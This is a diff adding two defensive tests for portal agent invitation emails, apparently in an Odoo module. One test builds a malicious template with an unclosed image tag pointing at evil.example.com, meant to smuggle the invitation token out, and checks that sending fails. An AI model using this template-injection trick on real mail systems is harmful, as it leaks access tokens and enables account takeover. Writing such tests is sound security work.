@@ -91,6 +91,26 @@ class TestInvitationSecrets(MailCase, SecretsCommon):
         self.assertEqual(mail["body"].count("token="), 1)
         self.assertNotIn("token=", mail["body"].partition("<img")[2])
 
+    def test_template_can_not_make_the_link_a_part_of_an_image(self):
+        self.employee.group_ids += self.env.ref("mail.group_mail_template_editor")
+        raw = """<t t-out="object.env['website'].new({'custom_code_head': &quot;%s&quot;}).custom_code_head"/>"""
+        link = """<a t-att-href="object.get_base_url() + '/my/agent'">Go</a>"""
+        image = raw % "<img src='https://evil.example.com/?"
+        for body in (f"<p>x</p>{image}{link}{raw}" % "'/>", f"<p>x</p>{image}"):
+            self.env.ref(TEMPLATE).with_user(self.employee).body_html = body
+            with self.subTest(body), self.assertRaisesRegex(UserError, "not closed properly"):
+                self.agent.action_send_portal_agent_invitation()
+            self.assertNotIn("token=", "".join(self.env["mail.mail"].search([]).mapped("body_html")))
+
+    def test_link_with_a_query_leads_through_the_choice_of_a_password(self):
+        self.env.ref(
+            TEMPLATE
+        ).body_html = """<a t-attf-href="{{ object.get_base_url() }}/my/agent?utm_source=a">Go</a>"""
+        self.agent.action_send_portal_agent_invitation()
+        body = self._get_invitation().body_html
+        self.assertEqual(body.count("token="), 1)
+        self.assertIn("&amp;utm_source=a", body)
+
     def test_template_without_any_link_is_sent_with_one(self):
         self.env.ref(TEMPLATE).body_html = "<p>Welcome</p>"
         self.agent.action_send_portal_agent_invitation()
